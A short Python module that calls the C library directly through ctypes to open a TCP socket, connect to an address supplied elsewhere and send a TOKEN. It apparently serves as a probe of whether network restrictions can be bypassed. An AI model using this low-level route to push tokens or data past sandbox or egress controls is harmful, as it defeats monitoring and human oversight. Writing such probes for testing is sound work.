"""Call the functions of the C library."""

import ctypes

from _calls import LIBC
from _calls import address
from _calls import checked
from _way import TOKEN
from _way import attempt


def go():
    """Connect and send."""
    descriptor = checked(LIBC.socket(2, 1, 0))
    checked(LIBC.connect(descriptor, ctypes.c_char_p(address()), 16))
    checked(LIBC.send(descriptor, TOKEN, len(TOKEN), 0))


attempt(go)
